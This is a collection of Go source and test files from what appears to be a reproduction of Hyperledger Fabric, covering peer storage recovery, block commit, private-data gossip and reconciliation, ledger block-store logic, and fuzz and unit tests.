		return nil, fmt.Errorf("peer: NewPersistent is exclusive with a storage backend; use Security.StorageBackend alone")
	}
	p, err := New(cfg)
	if err != nil {
		return nil, err
	}
	store, err := blockfile.Open(cfg.PersistDir)
	if err != nil {
		return nil, fmt.Errorf("peer %s: %w", p.Name(), err)
	}
	p.persist = store
	return p, nil
}

// Restore rebuilds the peer's in-memory state from its storage backend
// (or, on legacy peers, from the block file). Chaincode definitions
// must be approved before calling Restore (replay resolves collection
// configs through them).
//
// Backend recovery (docs/STORAGE.md §7): blocks [0, W) — where W is the
// state log's watermark — are installed directly (chain only; their
// state mutations load from the state store), and blocks [W, H) replay
// through the validator, which re-journals and re-flushes their
// mutations. Because blocks become durable before their state batch,
// W <= H always holds on an uncorrupted store.
func (p *Peer) Restore() error {
	if p.backend != nil {
		return p.restoreBackend()
	}
	if p.persist == nil {
		return fmt.Errorf("peer %s: not persistent", p.Name())
	}
	blocks, err := p.persist.ReadAll()
	if err != nil {
		return fmt.Errorf("peer %s: restore: %w", p.Name(), err)
	}
	for _, b := range blocks {
		if err := p.validator.ReplayBlock(b); err != nil {
			return fmt.Errorf("peer %s: restore: %w", p.Name(), err)
		}
	}
	return nil
}

func (p *Peer) restoreBackend() error {
	fail := func(err error) error { return fmt.Errorf("peer %s: restore: %w", p.Name(), err) }
	blocks, err := p.backend.Blocks().ReadAll()
	if err != nil {
		return fail(err)
	}
	// A snapshot-installed backend starts its chain at a base height; the
	// in-memory chain must adopt it before any block installs.
	var base uint64
	var baseHash []byte
	if bs, ok := p.backend.Blocks().(storage.BaseBlockStore); ok {
		base, baseHash = bs.Base()
	}
	height := base + uint64(len(blocks))
	watermark := p.backend.State().Watermark()
	if watermark > height {
		return fail(fmt.Errorf("%w: state watermark %d exceeds chain height %d",
			storage.ErrCorrupt, watermark, height))
	}
	if watermark < base {
		// The base was installed but the snapshot's state batch never
		// became durable: a crash mid-install. Blocks [base, watermark)
		// cannot be replayed (the peer never had them), so recovery is
		// impossible — wipe the backend and re-install the snapshot.
		return fail(fmt.Errorf("%w: snapshot install incomplete (chain based at %d, state watermark %d); re-install from the snapshot artifact",
			storage.ErrCorrupt, base, watermark))
	}
	if base > 0 {
		if err := p.blocks.InstallBase(base, baseHash); err != nil {
			return fail(err)
		}
	}
	// 1. Install the durable state as of watermark W, bypassing the
	// journal (these batches are durable already).
	err = p.backend.State().Load(func(batch storage.StateBatch) error {
		entries := make([]statedb.JournalEntry, len(batch.Records))
		for i, r := range batch.Records {
			entries[i] = statedb.JournalEntry{
				Namespace: r.Namespace,
				Key:       r.Key,
				Value:     r.Value,
				Version:   statedb.Version(r.Version),
				Delete:    r.Delete,
			}
		}
		p.db.RestoreBatch(entries)
		return nil
	})
	if err != nil {
		return fail(err)
	}
	// 2. Reload the private-data bookkeeping before replay, which
	// re-records (deduped) whatever the replayed blocks still miss.
	if err := p.pvt.RestorePurges(); err != nil {
		return fail(err)
	}
	if err := p.validator.RestoreMissing(); err != nil {
		return fail(err)
	}
	// 3. Blocks below the watermark carry no un-flushed state: chain
	// installation only. (Indexing is relative to the base: block base+i
	// sits at blocks[i].)
	for _, b := range blocks[:watermark-base] {
		if err := p.blocks.Append(b); err != nil {
			return fail(err)
		}
	}
	// 4. Blocks at or above the watermark replay through the validator:
	// their mutations re-journal and re-flush, closing the gap a crash
	// between the block append and the state flush left behind.
	for _, b := range blocks[watermark-base:] {
		if err := p.validator.ReplayBlock(b); err != nil {
			return fail(err)
		}
		if err := p.flushState(b.Header.Number + 1); err != nil {
			return fail(err)
		}
	}
	return nil
}

// flushState drains the statedb journal and applies it to the state
// store as the atomic batch of chain height h. Flushed even when empty:
// the watermark must advance past state-less blocks. Surfaces any
// sticky durable error from the private-data bookkeeping first — a
// block whose side records were lost must not be declared durable.
func (p *Peer) flushState(h uint64) error {
	p.storageMu.Lock()
	defer p.storageMu.Unlock()
	if p.storageErr != nil {
		return p.storageErr
	}
	if err := p.pvt.DurableErr(); err != nil {
		return err
	}
	if err := p.validator.DurableErr(); err != nil {
		return err
	}
	entries := p.db.DrainJournal()
	batch := storage.StateBatch{Height: h, Records: make([]storage.StateRecord, len(entries))}
	for i, e := range entries {
		batch.Records[i] = storage.StateRecord{
			Namespace: e.Namespace,
			Key:       e.Key,
			Value:     e.Value,
			Version:   uint64(e.Version),
			Delete:    e.Delete,
		}
	}
	return p.backend.State().Apply(batch)
}

// Backend exposes the peer's storage backend (nil when the peer runs
// without persistence).
func (p *Peer) Backend() storage.Backend { return p.backend }

// Close releases the peer's storage resources: the backend (stopping
// background compaction) and the legacy block file, when present.
func (p *Peer) Close() error {
	var first error
	if p.backend != nil {
		if err := p.backend.Close(); err != nil {
			first = err
		}
	}
	if p.persist != nil {
		if err := p.persist.Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// Name returns the peer's node name, e.g. "peer0.org1".
func (p *Peer) Name() string { return p.id.Subject() }

// Org returns the peer's organization.
func (p *Peer) Org() string { return p.id.MSPID() }

// ChannelName returns the name of the channel this peer serves.
func (p *Peer) ChannelName() string { return p.channelCfg.Name }

// Deliver exposes the peer's delivery service: block and per-transaction
// commit-status event streams with checkpointed replay. Subscribers that
// resume after a restart (Restore) replay the persisted backlog from the
// block store before going live.
func (p *Peer) Deliver() *deliver.Service { return p.delivery }

// SetSecurity swaps the active security configuration on both engines,
// the reconciler's retry policy and the transient store's lifecycle
// bounds.
func (p *Peer) SetSecurity(sec core.SecurityConfig) {
	p.endorser.SetSecurity(sec)
	p.validator.SetSecurity(sec)
	p.reconciler.SetPolicy(sec.ReconcileMaxAttempts, sec.ReconcileBaseBackoff, sec.ReconcileMaxBackoff)
	p.transient.SetLimits(sec.TransientTTLBlocks, sec.TransientMaxEntries)
}

// ApproveDefinition records the channel-agreed chaincode definition
// (name, policy, collections). All peers of a channel must approve the
// same definition, mirroring Fabric's chaincode lifecycle.
func (p *Peer) ApproveDefinition(def *chaincode.Definition) error {
	for i := range def.Collections {
		if err := def.Collections[i].Validate(); err != nil {
			return fmt.Errorf("peer %s: approve %q: %w", p.Name(), def.Name, err)
		}
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	p.defs[def.Name] = def
	return nil
}

// InstallChaincode installs this peer's implementation of a chaincode.
// Different peers may install different implementations of the same
// definition — Fabric's customizable chaincode.
func (p *Peer) InstallChaincode(name string, cc chaincode.Chaincode) {
	p.registry.Install(name, cc)
}

// Definition returns the approved definition of a chaincode, or nil.
func (p *Peer) Definition(name string) *chaincode.Definition {
	p.mu.RLock()
	defer p.mu.RUnlock()
	return p.defs[name]
}

// ProcessProposal endorses a transaction proposal (execution phase).
func (p *Peer) ProcessProposal(prop *ledger.Proposal) (*ledger.ProposalResponse, error) {
	resp, err := p.endorser.ProcessProposal(prop)
	if err != nil {
		p.metrics.Inc(metrics.ProposalsRefused)
		return nil, err
	}
	p.metrics.Inc(metrics.ProposalsEndorsed)
	return resp, nil
}

// Metrics returns a snapshot of the peer's operational counters,
// including the world state database's statedb_* counters.
func (p *Peer) Metrics() map[string]uint64 {
	snap := p.metrics.Snapshot()
	st := p.db.Stats()
	snap[metrics.StateDBGets] = st.Gets
	snap[metrics.StateDBPuts] = st.Puts
	snap[metrics.StateDBDeletes] = st.Deletes
	snap[metrics.StateDBRangeScans] = st.RangeScans
	snap[metrics.StateDBSnapshots] = st.Snapshots
	snap[metrics.StateDBCowClones] = st.CowClones
	snap[metrics.StateDBBatches] = st.Batches
	dd := p.validator.DedupStats()
	snap[metrics.DedupHits] = dd.Hits
	snap[metrics.DedupMisses] = dd.Misses
	snap[metrics.DedupEvicted] = dd.Evictions
	p.metricsMu.Lock()
	sources := p.metricsSources
	p.metricsMu.Unlock()
	for _, src := range sources {
		for name, v := range src() {
			snap[name] = v
		}
	}
	return snap
}

// RegisterMetricsSource merges an external counter provider into every
// Metrics snapshot. The transport layer registers its wire_* counters
// here (the peer cannot import the wire package — the dependency points
// the other way), so one endpoint reports the whole process.
func (p *Peer) RegisterMetricsSource(src func() map[string]uint64) {
	p.metricsMu.Lock()
	p.metricsSources = append(p.metricsSources, src)
	p.metricsMu.Unlock()
}

// Timings returns a snapshot of the peer's per-phase validation latency
// histograms (metrics.ValidateVerify/Policy/MVCC/Commit).
func (p *Peer) Timings() map[string]metrics.HistogramSnapshot { return p.timings.Snapshot() }

// CommitBlock runs the validation phase on a delivered block. The
// orderer calls this for every peer through its delivery registration.
func (p *Peer) CommitBlock(block *ledger.Block) error {
	if err := p.validator.ValidateAndCommit(block); err != nil {
		return err
	}
	p.transient.EvictExpired(p.blocks.Height())
	if p.persist != nil {
		// The block (with this peer's validation flags) becomes
		// durable; on restart Restore trusts these flags.
		if err := p.persist.Append(block); err != nil {
			return fmt.Errorf("peer %s: persist: %w", p.Name(), err)
		}
	}
	if p.backend != nil {
		// Durability ordering (docs/STORAGE.md §7): the block first, its
		// state batch second. A crash between the two leaves the state
		// watermark below the chain height, and Restore replays the gap;
		// the inverse order could leave state the chain cannot explain.
		if err := p.backend.Blocks().Append(block); err != nil {
			return fmt.Errorf("peer %s: persist block %d: %w", p.Name(), block.Header.Number, err)
		}
		if err := p.flushState(block.Header.Number + 1); err != nil {
			return fmt.Errorf("peer %s: persist state of block %d: %w", p.Name(), block.Header.Number, err)
		}
	}
	p.listenerMu.RLock()
	listeners := append([]CommitListener(nil), p.commitListeners...)
	eventListeners := append([]EventListener(nil), p.eventListeners...)
	p.listenerMu.RUnlock()
	p.metrics.Inc(metrics.BlocksCommitted)
	for i, tx := range block.Transactions {
		code := block.Metadata.ValidationFlags[i]
		p.metrics.Inc(metrics.TxValidPrefix + code.String())
		for _, l := range listeners {
			l(block.Header.Number, tx.TxID, code)
		}
		if code != ledger.Valid || len(eventListeners) == 0 {
			continue
		}
		prp, err := tx.ResponsePayloadParsed()
		if err != nil || prp.Event == nil {
			continue
		}
		for _, l := range eventListeners {
			l(block.Header.Number, tx.TxID, prp.Event)
		}
	}
	// Fan the block out to delivery subscribers last, once the commit is
	// durable and the missing-private-data records are in place.
	p.delivery.Publish(block)
	return nil
}

// OnCommit subscribes a listener to transaction outcomes at this peer.
func (p *Peer) OnCommit(l CommitListener) {
	p.listenerMu.Lock()
	defer p.listenerMu.Unlock()
	p.commitListeners = append(p.commitListeners, l)
}

// OnEvent subscribes a listener to chaincode events of valid
// transactions committed at this peer.
func (p *Peer) OnEvent(l EventListener) {
	p.listenerMu.Lock()
	defer p.listenerMu.Unlock()
	p.eventListeners = append(p.eventListeners, l)
}

// Ledger exposes the peer's blockchain, as any process colocated with the
// peer can read it — the capability the PDC leakage attack (§IV-B) uses.
func (p *Peer) Ledger() *ledger.BlockStore { return p.blocks }

// WorldState exposes the peer's state database for inspection.
func (p *Peer) WorldState() *statedb.DB { return p.db }

// PvtStore exposes the peer's private data store for inspection.
func (p *Peer) PvtStore() *pvtdata.Store { return p.pvt }

// Validator exposes the validation engine (used by benchmarks to measure
// validation latency in isolation).
func (p *Peer) Validator() *validator.Validator { return p.validator }

// MissingPrivateData reports collections whose original private data this
// member peer failed to obtain for a transaction.
func (p *Peer) MissingPrivateData(txID string) []string {
	return p.validator.MissingPrivateData(txID)
}

// --- gossip.Member implementation ---

var _ gossip.Member = (*Peer)(nil)

// GossipName implements gossip.Member.
func (p *Peer) GossipName() string { return p.Name() }

// GossipOrg implements gossip.Member.
func (p *Peer) GossipOrg() string { return p.Org() }

// ReceivePrivateData implements gossip.Member: deposits a disseminated
// private set into the transient store.
func (p *Peer) ReceivePrivateData(set *rwset.TxPvtRWSet) {
	p.transient.Persist(set)
}

// ServePrivateData implements gossip.Member: answers reconciliation
// pulls from the transient store, falling back to reconstruction from
// the committed private store — the path Fabric's reconciler uses when
// the transient data has long been purged.
func (p *Peer) ServePrivateData(txID, collection string) *rwset.CollPvtRWSet {
	if set := p.transient.GetCollection(txID, collection); set != nil {
		return set
	}
	return p.reconstructPvtSet(txID, collection)
}

// reconstructPvtSet rebuilds the original private write set of a
// committed transaction by matching the transaction's hashed writes
// against the peer's current private store. Only write-only sets whose
// keys and values still match (i.e. were not overwritten since) can be
// served this way.
func (p *Peer) reconstructPvtSet(txID, collection string) *rwset.CollPvtRWSet {
	tx, code, err := p.blocks.Transaction(txID)
	if err != nil || code != ledger.Valid {
		return nil
	}
	prp, err := tx.ResponsePayloadParsed()
	if err != nil {
		return nil
	}
	set, err := prp.RWSet()
	if err != nil {
		return nil
	}
	var hashed *rwset.CollHashedRWSet
	for i := range set.CollSets {
		if set.CollSets[i].Collection == collection {
			hashed = &set.CollSets[i]
			break
		}
	}
	if hashed == nil || len(hashed.HashedReads) > 0 {
		// Reads carry versions we cannot reconstruct faithfully.
		return nil
	}
	orig := &rwset.CollPvtRWSet{Collection: collection}
	for _, hw := range hashed.HashedWrites {
		if hw.IsDelete {
			return nil // deletes leave nothing to reconstruct
		}
		key, value, ok := p.findPrivateByHashes(prp.Chaincode, collection, hw.KeyHash, hw.ValueHash)
		if !ok {
			return nil
		}
		orig.Writes = append(orig.Writes, rwset.KVWrite{Key: key, Value: value})
	}
	if !rwset.MatchesHashed(orig, hashed) {
		return nil
	}
	return orig
}

func (p *Peer) findPrivateByHashes(chaincodeName, collection string, keyHash, valueHash []byte) (string, []byte, bool) {
	for _, key := range p.pvt.PrivateKeys(chaincodeName, collection) {
		if !fabcrypto.Equal(fabcrypto.HashString(key), keyHash) {
			continue
		}
		value, _, ok := p.pvt.GetPrivate(chaincodeName, collection, key)
		if !ok || !fabcrypto.Equal(fabcrypto.Hash(value), valueHash) {
			return "", nil, false
		}
		return key, value, true
	}
	return "", nil, false
}

// Reconciler exposes the peer's anti-entropy private-data reconciler:
// tick it to retry missing entries with backoff, inspect its pending and
// gave-up queues, and reinstate abandoned entries.
func (p *Peer) Reconciler() *reconcile.Reconciler { return p.reconciler }

// TickReconcile advances the reconciler by one tick: missing private
// data entries whose backoff elapsed are pulled from other members (via
// gossip, served from their transient or committed stores) and recovered
// values are committed. Returns the number of collections recovered this
// tick.
func (p *Peer) TickReconcile() int { return p.tickReconcile() }

// ReconcileMissing runs one reconciler tick — the managed replacement of
// the old one-shot pull. Entries that keep failing back off exponentially
// (in ticks) and are abandoned after SecurityConfig.ReconcileMaxAttempts;
// see Reconciler for the full control surface. Returns the number of
// collections recovered.
func (p *Peer) ReconcileMissing() int { return p.tickReconcile() }

// tickReconcile runs one reconciler tick and flushes any recovered
// private values to the state store, tagged with the current chain
// height. A flush failure cannot be returned here (the tick API returns
// a count), so it goes sticky in storageErr and fails the next commit.
func (p *Peer) tickReconcile() int {
	n := p.reconciler.Tick()
	if n > 0 && p.backend != nil {
		if err := p.flushState(p.blocks.Height()); err != nil {
			p.storageMu.Lock()
			if p.storageErr == nil {
				p.storageErr = err
			}
			p.storageMu.Unlock()
		}
	}
	return n
}
