package ledger

import "testing"

// FuzzParseTransaction checks the transaction decoder never panics and
// that accepted transactions re-serialize.
func FuzzParseTransaction(f *testing.F) {
	f.Add([]byte(testTx("seed").Bytes()))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"tx_id": "x"}`))
	f.Add([]byte(`null`))
	f.Add([]byte(``))
	f.Add([]byte(`[1,2,3]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		tx, err := ParseTransaction(data)
		if err != nil || tx == nil {
			return
		}
		_ = tx.Bytes()
		_, _ = tx.ResponsePayloadParsed()
	})
}

// FuzzParseProposalResponsePayload checks the payload decoder.
func FuzzParseProposalResponsePayload(f *testing.F) {
	prp := &ProposalResponsePayload{
		TxID:     "t",
		Response: Response{Status: StatusOK, Payload: []byte("p")},
		Results:  []byte(`{}`),
	}
	f.Add(prp.Bytes())
	f.Add([]byte(`{"response": {"status": 200}}`))
	f.Add([]byte(`garbage`))
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := ParseProposalResponsePayload(data)
		if err != nil || p == nil {
			return
		}
		_ = p.Bytes()
		_ = p.HashedPayloadForm()
		_, _ = p.RWSet()
	})
}
