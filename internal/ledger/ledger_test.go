package ledger

import (
	"bytes"
	"errors"
	"fmt"
	"testing"
	"testing/quick"

	"repro/internal/fabcrypto"
)

func testTx(id string) *Transaction {
	prp := &ProposalResponsePayload{
		TxID:      id,
		Chaincode: "cc",
		Response:  Response{Status: StatusOK, Payload: []byte("payload-" + id)},
		Results:   []byte(`{}`),
	}
	return &Transaction{
		TxID:            id,
		ChannelID:       "c1",
		Proposal:        &Proposal{TxID: id, Chaincode: "cc", Function: "f"},
		ResponsePayload: prp.Bytes(),
	}
}

func TestTxIDDerivation(t *testing.T) {
	nonce1, err := NewNonce()
	if err != nil {
		t.Fatal(err)
	}
	nonce2, _ := NewNonce()
	if bytes.Equal(nonce1, nonce2) {
		t.Fatal("nonces repeat")
	}
	creator := []byte("cert")
	id1 := NewTxID(nonce1, creator)
	if id1 != NewTxID(nonce1, creator) {
		t.Fatal("TxID not deterministic")
	}
	if id1 == NewTxID(nonce2, creator) {
		t.Fatal("different nonces gave same TxID")
	}
	if id1 == NewTxID(nonce1, []byte("other")) {
		t.Fatal("different creators gave same TxID")
	}
}

func TestProposalResponsePayloadRoundTrip(t *testing.T) {
	prp := &ProposalResponsePayload{
		TxID:     "t",
		Response: Response{Status: StatusOK, Payload: []byte("secret")},
		Results:  []byte(`{"x":1}`),
	}
	parsed, err := ParseProposalResponsePayload(prp.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if string(parsed.Response.Payload) != "secret" {
		t.Fatal("payload lost")
	}
	if _, err := ParseProposalResponsePayload([]byte("junk")); err == nil {
		t.Fatal("junk parsed")
	}
}

func TestHashedPayloadForm(t *testing.T) {
	prp := &ProposalResponsePayload{
		TxID:     "t",
		Response: Response{Status: StatusOK, Payload: []byte("secret")},
	}
	hashed := prp.HashedPayloadForm()
	if !fabcrypto.Equal(hashed.Response.Payload, fabcrypto.Hash([]byte("secret"))) {
		t.Fatal("payload not hashed")
	}
	// Original untouched.
	if string(prp.Response.Payload) != "secret" {
		t.Fatal("original mutated")
	}
	// Deterministic: recomputation matches, the client-side Feature 2
	// verification step.
	if !bytes.Equal(hashed.Bytes(), prp.HashedPayloadForm().Bytes()) {
		t.Fatal("hashed form not deterministic")
	}
	// Empty payload stays empty.
	empty := &ProposalResponsePayload{TxID: "t"}
	if len(empty.HashedPayloadForm().Response.Payload) != 0 {
		t.Fatal("empty payload hashed")
	}
}

func TestBlockChaining(t *testing.T) {
	b0 := NewBlock(0, nil, []*Transaction{testTx("a")})
	b1 := NewBlock(1, b0.Hash(), []*Transaction{testTx("b")})
	if !b0.VerifyDataHash() || !b1.VerifyDataHash() {
		t.Fatal("fresh blocks fail data hash")
	}
	if !fabcrypto.Equal(b1.Header.PrevHash, b0.Hash()) {
		t.Fatal("prev hash broken")
	}

	// Tampering with a transaction breaks the data hash.
	b0.Transactions[0].TxID = "tampered"
	if b0.VerifyDataHash() {
		t.Fatal("tampered block passes data hash")
	}
}

func TestBlockClone(t *testing.T) {
	b := NewBlock(0, nil, []*Transaction{testTx("a")})
	cp := b.Clone()
	cp.Metadata.ValidationFlags[0] = MVCCConflict
	cp.Transactions[0].TxID = "other"
	if b.Metadata.ValidationFlags[0] == MVCCConflict {
		t.Fatal("clone shares metadata")
	}
	if b.Transactions[0].TxID == "other" {
		t.Fatal("clone shares transactions")
	}
}

func TestBlockStoreAppend(t *testing.T) {
	s := NewBlockStore()
	if s.Height() != 0 || s.LastHash() != nil {
		t.Fatal("empty store not empty")
	}
	b0 := NewBlock(0, nil, []*Transaction{testTx("a")})
	if err := s.Append(b0); err != nil {
		t.Fatal(err)
	}
	b1 := NewBlock(1, s.LastHash(), []*Transaction{testTx("b"), testTx("c")})
	b1.Metadata.ValidationFlags[1] = MVCCConflict
	if err := s.Append(b1); err != nil {
		t.Fatal(err)
	}
	if s.Height() != 2 {
		t.Fatalf("height = %d", s.Height())
	}

	// Wrong number.
	if err := s.Append(NewBlock(5, s.LastHash(), nil)); err == nil {
		t.Fatal("gap accepted")
	}
	// Wrong prev hash.
	bad := NewBlock(2, []byte("bogus"), nil)
	if err := s.Append(bad); err == nil {
		t.Fatal("bad linkage accepted")
	}
	// Tampered data.
	worse := NewBlock(2, s.LastHash(), []*Transaction{testTx("d")})
	worse.Transactions[0].TxID = "swapped"
	if err := s.Append(worse); err == nil {
		t.Fatal("tampered data accepted")
	}

	// Lookup.
	tx, code, err := s.Transaction("c")
	if err != nil || tx.TxID != "c" || code != MVCCConflict {
		t.Fatalf("lookup c: %v %v %v", tx, code, err)
	}
	if _, _, err := s.Transaction("nope"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("missing tx error = %v", err)
	}
	if _, err := s.Block(9); !errors.Is(err, ErrNotFound) {
		t.Fatal("missing block found")
	}
	if got, err := s.Block(1); err != nil || got.Header.Number != 1 {
		t.Fatal("block lookup failed")
	}
}

func TestBlockStoreScan(t *testing.T) {
	s := NewBlockStore()
	_ = s.Append(NewBlock(0, nil, []*Transaction{testTx("a"), testTx("b")}))
	_ = s.Append(NewBlock(1, s.LastHash(), []*Transaction{testTx("c")}))

	var seen []string
	s.Scan(func(blockNum uint64, tx *Transaction, code ValidationCode) bool {
		seen = append(seen, fmt.Sprintf("%d:%s", blockNum, tx.TxID))
		return true
	})
	want := []string{"0:a", "0:b", "1:c"}
	if len(seen) != len(want) {
		t.Fatalf("scan = %v", seen)
	}
	for i := range want {
		if seen[i] != want[i] {
			t.Fatalf("scan[%d] = %s, want %s", i, seen[i], want[i])
		}
	}

	// Early stop.
	count := 0
	s.Scan(func(uint64, *Transaction, ValidationCode) bool {
		count++
		return false
	})
	if count != 1 {
		t.Fatalf("early stop scanned %d", count)
	}
}

func TestVerifyChain(t *testing.T) {
	s := NewBlockStore()
	_ = s.Append(NewBlock(0, nil, []*Transaction{testTx("a")}))
	_ = s.Append(NewBlock(1, s.LastHash(), []*Transaction{testTx("b")}))
	if broken := s.VerifyChain(); broken != -1 {
		t.Fatalf("intact chain reports break at %d", broken)
	}
	// Tamper inside a stored block (simulating disk corruption).
	b, _ := s.Block(1)
	b.Transactions[0].Proposal.Function = "evil"
	if broken := s.VerifyChain(); broken != 1 {
		t.Fatalf("tampered chain reports %d, want 1", broken)
	}
}

func TestValidationCodeString(t *testing.T) {
	cases := map[ValidationCode]string{
		Valid:                    "VALID",
		EndorsementPolicyFailure: "ENDORSEMENT_POLICY_FAILURE",
		MVCCConflict:             "MVCC_READ_CONFLICT",
		BadPayload:               "BAD_PAYLOAD",
		BadSignature:             "BAD_SIGNATURE",
		ValidationCode(99):       "ValidationCode(99)",
	}
	for code, want := range cases {
		if code.String() != want {
			t.Errorf("%d.String() = %q, want %q", int(code), code.String(), want)
		}
	}
}

func TestTransactionRoundTrip(t *testing.T) {
	tx := testTx("x")
	parsed, err := ParseTransaction(tx.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if parsed.TxID != "x" || parsed.Proposal.Function != "f" {
		t.Fatalf("round trip = %+v", parsed)
	}
	prp, err := parsed.ResponsePayloadParsed()
	if err != nil || string(prp.Response.Payload) != "payload-x" {
		t.Fatalf("payload round trip: %v", err)
	}
	if _, err := ParseTransaction([]byte("nope")); err == nil {
		t.Fatal("junk transaction parsed")
	}
}

// TestChainIntegrityQuick: random batches of transactions appended as a
// chain always verify, and any single bit flip in a stored transaction
// is caught by VerifyChain.
func TestChainIntegrityQuick(t *testing.T) {
	f := func(batchSizes []uint8, flipBlock, flipByte uint16) bool {
		if len(batchSizes) == 0 {
			batchSizes = []uint8{1}
		}
		if len(batchSizes) > 8 {
			batchSizes = batchSizes[:8]
		}
		s := NewBlockStore()
		txCount := 0
		for i, n := range batchSizes {
			var txs []*Transaction
			for j := 0; j <= int(n%3); j++ {
				txCount++
				txs = append(txs, testTx(fmt.Sprintf("tx-%d-%d", i, j)))
			}
			b := NewBlock(uint64(i), s.LastHash(), txs)
			if err := s.Append(b); err != nil {
				return false
			}
		}
		if s.VerifyChain() != -1 {
			return false
		}
		// Flip one byte in one stored transaction's payload.
		target := uint64(flipBlock) % s.Height()
		b, err := s.Block(target)
		if err != nil || len(b.Transactions) == 0 {
			return false
		}
		raw := b.Transactions[0].ResponsePayload
		if len(raw) == 0 {
			return false
		}
		raw[int(flipByte)%len(raw)] ^= 0x01
		return s.VerifyChain() == int64(target)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

// TestTransactionBytesMemoized: Bytes computes the canonical form once
// and returns stable bytes, ParseTransaction seeds the cache with the
// wire form, and the parsed transaction re-serializes byte-identically —
// the invariant the block data hash depends on.
func TestTransactionBytesMemoized(t *testing.T) {
	tx := testTx("memo")
	first := tx.Bytes()
	second := tx.Bytes()
	if &first[0] != &second[0] {
		t.Fatal("Bytes re-marshaled instead of serving the cache")
	}
	parsed, err := ParseTransaction(first)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(parsed.Bytes(), first) {
		t.Fatal("parse/serialize round trip not byte-identical")
	}
	// The seeded cache is a copy: mutating the wire slice afterwards must
	// not corrupt the parsed transaction's canonical form.
	wire := append([]byte(nil), first...)
	parsed2, err := ParseTransaction(wire)
	if err != nil {
		t.Fatal(err)
	}
	wire[0] ^= 0xff
	if !bytes.Equal(parsed2.Bytes(), first) {
		t.Fatal("cache aliases the caller's wire slice")
	}
}

// TestTransactionCloneGetsColdCache: a block clone's transactions are
// independent of the original's memoized serialization.
func TestTransactionCloneGetsColdCache(t *testing.T) {
	tx := testTx("cold")
	orig := append([]byte(nil), tx.Bytes()...)
	b := NewBlock(0, nil, []*Transaction{tx})
	clone := b.Clone()
	if !bytes.Equal(clone.Transactions[0].Bytes(), orig) {
		t.Fatal("cloned transaction serializes differently")
	}
	if !clone.VerifyDataHash() {
		t.Fatal("clone data hash broken")
	}
}
