package ledger

import (
	"errors"
	"fmt"
	"sync"

	"repro/internal/fabcrypto"
)

// ErrNotFound is returned when a block or transaction is absent from the
// store.
var ErrNotFound = errors.New("ledger: not found")

// BlockStore is a peer's copy of the blockchain. Blocks are appended in
// order after validation; every append verifies the hash chain.
type BlockStore struct {
	mu     sync.RWMutex
	blocks []*Block
	byTxID map[string]txLocator
}

type txLocator struct {
	blockNum uint64
	txIndex  int
}

// NewBlockStore creates an empty blockchain.
func NewBlockStore() *BlockStore {
	return &BlockStore{byTxID: make(map[string]txLocator)}
}

// Append adds a validated block to the chain after verifying linkage.
func (s *BlockStore) Append(b *Block) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	want := uint64(len(s.blocks))
	if b.Header.Number != want {
		return fmt.Errorf("ledger: append block %d, want %d", b.Header.Number, want)
	}
	if want > 0 {
		prev := s.blocks[want-1].Hash()
		if !fabcrypto.Equal(b.Header.PrevHash, prev) {
			return fmt.Errorf("ledger: block %d prev-hash mismatch", b.Header.Number)
		}
	}
	if !b.VerifyDataHash() {
		return fmt.Errorf("ledger: block %d data-hash mismatch", b.Header.Number)
	}
	s.blocks = append(s.blocks, b)
	for i, tx := range b.Transactions {
		s.byTxID[tx.TxID] = txLocator{blockNum: b.Header.Number, txIndex: i}
	}
	return nil
}

// Height returns the number of blocks in the chain.
func (s *BlockStore) Height() uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return uint64(len(s.blocks))
}

// LastHash returns the hash of the last block, or nil for an empty chain.
func (s *BlockStore) LastHash() []byte {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if len(s.blocks) == 0 {
		return nil
	}
	return s.blocks[len(s.blocks)-1].Hash()
}

// Block returns the block at the given number.
func (s *BlockStore) Block(number uint64) (*Block, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	if number >= uint64(len(s.blocks)) {
		return nil, fmt.Errorf("%w: block %d", ErrNotFound, number)
	}
	return s.blocks[number], nil
}

// Transaction looks up a transaction and its validation flag by ID.
func (s *BlockStore) Transaction(txID string) (*Transaction, ValidationCode, error) {
	s.mu.RLock()
	defer s.mu.RUnlock()
	loc, ok := s.byTxID[txID]
	if !ok {
		return nil, 0, fmt.Errorf("%w: tx %s", ErrNotFound, txID)
	}
	b := s.blocks[loc.blockNum]
	return b.Transactions[loc.txIndex], b.Metadata.ValidationFlags[loc.txIndex], nil
}

// Scan calls fn for every transaction in chain order, with its block
// number and validation flag. fn returning false stops the scan. This is
// the primitive the paper's PDC-leakage attack uses: any peer can walk its
// local blockchain and parse transaction payloads (§IV-B).
func (s *BlockStore) Scan(fn func(blockNum uint64, tx *Transaction, code ValidationCode) bool) {
	s.mu.RLock()
	blocks := s.blocks
	s.mu.RUnlock()
	for _, b := range blocks {
		for i, tx := range b.Transactions {
			if !fn(b.Header.Number, tx, b.Metadata.ValidationFlags[i]) {
				return
			}
		}
	}
}

// VerifyChain re-checks hash linkage and data hashes across the whole
// chain, returning the first broken block number or -1 when intact.
func (s *BlockStore) VerifyChain() int64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var prev []byte
	for i, b := range s.blocks {
		if b.Header.Number != uint64(i) {
			return int64(i)
		}
		if i > 0 && !fabcrypto.Equal(b.Header.PrevHash, prev) {
			return int64(i)
		}
		if !b.VerifyDataHash() {
			return int64(i)
		}
		prev = b.Hash()
	}
	return -1
}
