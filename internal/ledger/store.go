package ledger

import (
	"errors"
	"fmt"
	"sync"

	"repro/internal/fabcrypto"
)

// ErrNotFound is returned when a block or transaction is absent from the
// store.
var ErrNotFound = errors.New("ledger: not found")

// BlockStore is a peer's copy of the blockchain. Blocks are appended in
// order after validation; every append verifies the hash chain.
//
// A store normally starts at block 0, but a snapshot-bootstrapped peer
// installs a base: the store then holds blocks [base, height) and the
// first append at `base` is linked against the snapshot's recorded
// last-block hash instead of a locally held predecessor.
type BlockStore struct {
	mu       sync.RWMutex
	base     uint64
